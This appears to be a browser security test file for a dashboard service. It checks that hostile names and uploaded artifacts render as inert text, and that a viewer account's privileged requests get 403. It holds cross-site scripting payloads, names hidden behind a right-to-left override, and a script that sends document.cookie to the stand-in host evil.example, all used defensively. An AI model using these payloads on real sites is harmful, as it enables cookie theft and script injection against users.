/** Attacks on the dashboard in a real browser: hostile names, files and artifacts, and people who do more than they may. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { on, testAutomations } from '../../packages/service/test/automations.ts';
import { invite, newPerson, newTeam, teamUidOf } from '../../packages/service/test/people.ts';
import { startTestService, type TestService } from '../../packages/service/test/service.ts';
import { testWebhooks } from '../../packages/service/test/webhooks.ts';
import { noBrowser, useBrowser } from '../support/browser.ts';
import { begin, hiddenOrder, reportsTo, signIn, tooWide } from '../support/dashboard.ts';
import { onePixel } from '../support/full-run.ts';

describe.skipIf(noBrowser)(`the dashboard under attack${noBrowser ? ` (skipped: ${noBrowser})` : ''}`, () => {
  let service: TestService;
  let hooks: Awaited<ReturnType<typeof testWebhooks>>;
  let page: Page;
  let complaints: string[];
  const browser = useBrowser();

  beforeAll(async () => {
    service = await startTestService();
    hooks = await testWebhooks(service);
  });
  afterAll(() => service.close());
  beforeEach(() => {
    ({ page, complaints } = browser());
  });

  const markup = '<img src=x onerror="document.title=`hacked`"><script>document.title="hacked"</script>';
  /** A name that reverses the text after it, and that runs a script if a page inserts the name as markup. */
  const hostile = (name: string) => `${name} \u202e${markup.slice(0, 50)}`;
  const marked = (name: string) => page.getByText(`${name} [U+202E]<img src=x`);
  const create = async <T>(method: string, path: string, body: object, key = service.key): Promise<T> =>
    await service.ok<T>(method, path, { key, body });
  /** Opens an address of the dashboard. Fails unless it shows the name `text` as text. */
  const show = async (address: string, text: string) => {
    await page.goto(service.baseUrl + address);
    await marked(text).first().waitFor();
  };
  const button = (name: string | RegExp) => page.getByRole('button', { name, exact: true });

  test('shows names of a schedule, factory, webhook, automation, team and person as text, with marks for hidden characters', {
    tags: 'long',
  }, async () => {
    const teamUid = await newTeam(service, hostile('Team'));
    const invitation = await invite(service, teamUid, 'admin');
    const { key } = await create<{ key: string }>(
      'POST',
      '/team-invitations/accept',
      { key: invitation, display_name: hostile('Person') },
      '',
    );
    const schedule = await create<{ id: string }>(
      'POST',
      '/agent/schedules',
      { name: hostile('Schedule'), prompt: 'Do it', cron_schedule: '0 3 * * *' },
      key,
    );
    const factory = await create<{ uid: string }>('POST', '/factory', { name: hostile('Factory') }, key);
    const base = `/factory/${factory.uid}`;
    const webhook = await create<{ uid: string }>('POST', `${base}/webhooks`, { name: hostile('Webhook') }, key);
    const automation = await create<{ uid: string }>(
      'POST',
      `${base}/automations`,
      { name: hostile('Automation'), prompt: 'Look', triggers: [on(webhook)] },
      key,
    );
    const run = await service.newRun({ title: hostile('Run'), prompt: markup }, key);
    await reportsTo(service)(await service.claimRun(run), ...begin);
    await signIn(page, service, key);
    const found: string[] = [];
    /** Adds the faults of the page to `found`: raw characters, and names that push the page wider than the window. */
    const look = async () => {
      found.push(...(await hiddenOrder(page)), ...(await tooWide(page)));
    };
    await show(`/factories/${factory.uid}/automations/${automation.uid}`, 'Automation');
    await marked('Webhook').waitFor();
    await look();
    await show(`/factories/${factory.uid}/webhooks/${webhook.uid}`, 'Webhook');
    await look();
    await show(`/factories/${factory.uid}`, 'Factory');
    await page.getByRole('listitem').filter({ hasText: 'gives its runs to' }).waitFor();
    await look();
    await show(`/schedules/${schedule.id}`, 'Schedule');
    await button('Delete…').click();
    await page.getByRole('alertdialog').getByText('Delete Schedule [U+202E]<img').waitFor();
    await look();
    await page.keyboard.press('Escape');
    await show('/schedules', 'Schedule');
    await page.getByRole('switch').click();
    await page.getByRole('status').getByText('Paused Schedule [U+202E]<img').waitFor();
    await look();
    await show(`/runs/${run}`, 'Run');
    await page.getByRole('log').getByText('Person [U+202E]<img').first().waitFor();
    await page.getByRole('button', { name: /^Person/ }).click();
    await page.getByRole('menuitem', { name: 'My keys' }).waitFor();
    await look();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: /Team \[U\+202E\]/ }).click();
    await page.getByRole('menuitem', { name: /Team \[U\+202E\]/ }).waitFor();
    await look();
    await browser().picture('hostile-names');
    expect(found).toEqual([]);
    expect(await page.title()).not.toBe('hacked');
    expect(complaints).toEqual([]);
  });

  test('shows a hostile branch, path and artifact name as text, shows an image, and only downloads SVG and HTML', async () => {
    const { runId, runToken: key } = await service.startExecution({ title: 'Files' });
    const patch = `@@ -0,0 +1 @@\n+${markup}\n`;
    await create(
      'POST',
      '/harness-support/changes',
      {
        repositories: [
          {
            path: hostile('folder'),
            branch: hostile('branch'),
            files: [{ path: `${hostile('path')}\n.txt`, status: 'added', additions: 1, deletions: 0, patch }],
          },
        ],
      },
      key,
    );
    const report = async (filename: string, mime: string, bytes: string | Uint8Array<ArrayBuffer>) => {
      const body = { artifact_type: 'FILE', data: { filename, mime_type: mime } };
      const stored = await create<{ upload_url: string }>('POST', '/harness-support/report-artifact', body, key);
      const headers = { 'content-type': mime };
      expect((await service.request('PUT', stored.upload_url, { key: null, raw: bytes, headers })).status).toBe(200);
    };
    const script =
      'document.title="hacked"; parent.document.title="hacked"; fetch("https://evil.example/" + document.cookie)';
    await report('page.html', 'text/plain', `<!doctype html>${markup}<script>${script}</script>`);
    await report(
      'drawing.svg',
      'image/png',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
    );
    await report(hostile('image'), 'text/html', Uint8Array.from(onePixel));
    const reference = { reference_type: 'issue', title: hostile('link'), url: 'https://evil.example/\u202e' };
    await create(
      'POST',
      '/harness-support/report-artifact',
      { artifact_type: 'EXTERNAL_REFERENCE', data: reference },
      key,
    );

    const elsewhere: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(service.baseUrl)) elsewhere.push(request.url());
    });
    await signIn(page, service);
    await show(`/runs/${runId}?tab=files`, 'branch');
    await marked('path').first().waitFor();
    await page
      .getByText(/<script>document\.title="hacked"/)
      .first()
      .waitFor();
    const found = await hiddenOrder(page);
    await browser().picture('hostile-files');
    await page.goto(`${service.baseUrl}/runs/${runId}`);
    for (const name of ['page.html', 'drawing.svg']) {
      await button(name).click();
      await page.getByText(/has no preview/).waitFor();
      const download = page.waitForEvent('download');
      await button('Download').click();
      expect((await download).suggestedFilename()).toBe(name);
      expect(page.url()).toBe(`${service.baseUrl}/runs/${runId}`);
      // The address of the download does not become a page, even if a person opens it in a tab.
      const address = (await download).url();
      await expect(page.goto(address)).rejects.toThrow(/Download is starting|ERR_ABORTED/);
      await page.goto(`${service.baseUrl}/runs/${runId}`);
    }
    await button(/^image/).click();
    const image = page.getByRole('dialog').getByRole('img');
    await expect
      .poll(() => image.evaluate((element) => (element as unknown as { naturalWidth: number }).naturalWidth))
      .toBe(1);
    found.push(...(await hiddenOrder(page)), ...(await tooWide(page)));
    await browser().picture('hostile-artifacts');
    expect(found).toEqual([]);
    expect(elsewhere).toEqual([]);
    expect(await page.title()).not.toContain('hacked');
    expect(complaints).toEqual([]);
  });

  test('a viewer cannot use the buttons, and the service refuses the requests of the buttons', {
    tags: 'long',
  }, async () => {
    const viewer = await newPerson(service, await teamUidOf(service), 'viewer');
    const run = await service.newRun({ title: 'Look only' });
    const webhook = await hooks.create({ name: 'Alerts' });
    const { uid } = await testAutomations(service, hooks.factory.uid).create([on(webhook)]);
    const schedule = await create<{ id: string }>('POST', '/agent/schedules', {
      name: 'Nightly',
      prompt: 'Do it',
      cron_schedule: '0 3 * * *',
    });
    const factory = `/factories/${hooks.factory.uid}`;
    await signIn(page, service, viewer.key);
    const screens: readonly (readonly [address: string, ...buttons: (string | RegExp)[]])[] = [
      [`/runs/${run}`, /^Cancel run/, /^Send message/],
      [`/schedules/${schedule.id}`, /^Delete…/],
      [`${factory}/automations/${uid}`, /^Disable/, /^Delete…/, /^Save/],
      [`${factory}/webhooks/${webhook.uid}`, /^Delete…/],
    ];
    for (const [address, ...names] of screens) {
      await page.goto(service.baseUrl + address);
      for (const name of names) {
        await button(name).first().waitFor();
        expect([address, name, await button(name).first().isDisabled()]).toEqual([address, name, true]);
      }
    }
    const requests: readonly (readonly [method: string, path: string, body?: object])[] = [
      ['POST', '/agent/runs', { prompt: 'Do it' }],
      ['POST', `/agent/runs/${run}/cancel`],
      ['POST', `/agent/runs/${run}/rerun`, {}],
      ['POST', `/agent/runs/${run}/followups`, { message: 'Go on' }],
      ['DELETE', `/agent/runs/${run}`],
      ['DELETE', `/agent/schedules/${schedule.id}`],
      ['DELETE', `/factory/${hooks.factory.uid}/automations/${uid}`],
      ['DELETE', `/factory/${hooks.factory.uid}/webhooks/${webhook.uid}`],
      ['PUT', '/secrets/STOLEN', { value: 'x'.repeat(20), scope: 'team' }],
    ];
    // The requests have the cookie and the token of the viewer's own page.
    const statuses = await page.evaluate(async (list) => {
      const session = (await (await fetch('/api/v1/session')).json()) as { csrf_token: string };
      return await Promise.all(
        list.map(async ([method, path, body]) => {
          const { status } = await fetch(`/api/v1${path}`, {
            method,
            headers: { 'x-csrf-token': session.csrf_token, 'content-type': 'application/json' },
            ...(body === undefined ? {} : { body: JSON.stringify(body) }),
          });
          return `${method} ${path} ${status}`;
        }),
      );
    }, requests);
    expect(statuses).toEqual(requests.map(([method, path]) => `${method} ${path} 403`));
    expect(complaints).toEqual([]);
  });
});
